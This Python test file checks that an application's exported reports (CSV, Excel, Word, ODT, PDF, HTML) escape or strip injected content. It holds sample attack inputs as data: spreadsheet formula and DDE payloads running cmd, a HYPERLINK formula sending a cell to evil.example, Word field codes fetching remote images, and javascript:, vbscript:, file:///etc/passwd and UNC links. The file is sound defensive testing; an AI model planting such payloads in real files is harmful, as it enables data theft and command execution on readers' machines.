"""What people write so that a report, once opened, runs it, follows it or fetches it."""

import csv
import io
import re
import threading
import zipfile
from http.server import BaseHTTPRequestHandler, HTTPServer

import openpyxl

from actionplans.workflow.updates import UpdateContent
from tests.abuse.without_guard import must_fail_without_guard, removes_guard
from tests.reports.base import PUBLIC_URL, ROUND_URL, PublishCase

FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"Read more")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
HONEST = "2 - 1 = 1, as was agreed."
FIELDS = (
    '{INCLUDEPICTURE "https://evil.example/x.png"} {DDEAUTO c:\\\\windows\\\\cmd.exe} {{ 7 * 7 }} {% raw %}'
)
LINKS = "javascript:alert(1) file:///etc/passwd \\\\evil.example\\share vbscript:msgbox(1)"


class PublishedDocumentTestCase(PublishCase):
    def file(self, kind):
        answer = self.get(self.mo, f"{ROUND_URL}{kind}/")
        self.assertEqual(answer.status_code, 200, kind)
        return answer.content

    def publish_with(self, words):
        self.approve(UpdateContent(evidence=words, grade=2))
        self.ask()

    def cells(self):
        """Every cell of the CSV."""
        return [cell for row in csv.reader(io.StringIO(self.file("csv").decode("utf-8-sig"))) for cell in row]

    def parts(self, kind):
        with zipfile.ZipFile(io.BytesIO(self.file(kind))) as archive:
            return {name: archive.read(name).decode("utf-8", "replace") for name in archive.namelist()}


@must_fail_without_guard
class FormulaTests(PublishedDocumentTestCase):
    @removes_guard("documents.writers.csv_table.FORMULA_PREFIXES", ())
    def test_b18_no_cell_of_a_csv_is_run(self):
        for text in FORMULAS:
            self.approve_again(text)
            self.assertIn(f"'{text}", self.cells())
            self.assertFalse([cell for cell in self.cells() if cell.startswith(tuple("=+-@"))])

    def test_b18_no_cell_of_a_workbook_is_run(self):
        for text in FORMULAS:
            with self.subTest(words=text):
                self.approve_again(text)
                parts = self.parts("xlsx")
                self.assertFalse([name for name in parts if re.search(r"<f[ >/]", parts[name])])
                self.assertFalse([name for name in parts if 'TargetMode="External"' in parts[name]])
                book = openpyxl.load_workbook(io.BytesIO(self.file("xlsx")))
                cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
                self.assertIn((text, "s"), {(cell.value, cell.data_type) for cell in cells})

    def test_b18_words_with_signs_in_them_are_as_they_were_written(self):
        self.publish_with(HONEST)
        self.assertIn(HONEST, self.cells())

    def approve_again(self, words):
        if self.round.state == "open":
            self.publish_with(words)
            self.round.refresh_from_db()
            return
        self.correct(UpdateContent(evidence=words, grade=2))
        self.ask(reason="The words were wrong.")
        self.round.refresh_from_db()


class PaperTests(PublishedDocumentTestCase):
    def test_b19_a_paper_fetches_nothing_and_shows_the_words(self):
        asked = []

        class Canary(BaseHTTPRequestHandler):
            def do_GET(self):
                asked.append(self.path)
                self.send_error(404)

        with HTTPServer(("127.0.0.1", 0), Canary) as server:
            threading.Thread(target=server.serve_forever, daemon=True).start()
            address = f"http://{server.server_address[0]}:{server.server_port}/"
            self.publish_with(f'<img src="{address}"> <style>@import url({address})</style> {address}')
            for kind in ("pdf", "docx", "odt", "html"):
                self.file(kind)
            self.client.logout()
            self.assertEqual(self.client.get(f"{PUBLIC_URL}pdf/").status_code, 200)
            server.shutdown()
        self.assertEqual(asked, [])

    def test_b20_a_word_paper_takes_nothing_from_elsewhere_and_computes_nothing(self):
        self.publish_with(f"{FIELDS} {LINKS}")
        for kind in ("docx", "odt"):
            parts = self.parts(kind)
            for name, part in parts.items():
                targets = re.findall(r'(?:Target|href)="([^"]*)"[^>]*TargetMode="External"', part)
                targets += re.findall(r'xlink:href="([a-z]+:[^"]*)"', part)
                self.assertFalse([t for t in targets if not t.startswith(("https://", "http://", "mailto:"))])
                self.assertNotIn("altChunk", part)
                self.assertNotIn("attachedTemplate", part)
                for run in re.findall(r"<w:instrText[^>]*>([^<]*)<", part):
                    self.assertNotIn("evil", run, name)
        self.assertIn("7 * 7", "".join(self.parts("docx").values()))
